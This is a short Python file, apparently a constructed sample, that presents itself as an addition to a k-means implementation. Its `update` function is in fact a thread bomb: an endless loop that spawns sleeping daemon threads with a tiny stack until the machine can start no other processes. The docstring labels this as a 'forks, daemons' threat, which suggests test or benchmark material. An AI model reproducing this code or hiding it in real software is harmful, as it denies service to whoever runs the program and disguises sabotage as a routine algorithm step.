"""Starts threads without end: with thousands, no other process of the machine could start any.

threat = "forks, daemons"
says = { update = "error memory or error policy" }
"""

# Appended to the reference of k-means, which defines the names that are not defined here.
# entries.py explains the settings above, and marks such as @SECRET@.

import threading
import time


def starts(X, labels, centers):
    threading.stack_size(1 << 15)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


update = starts
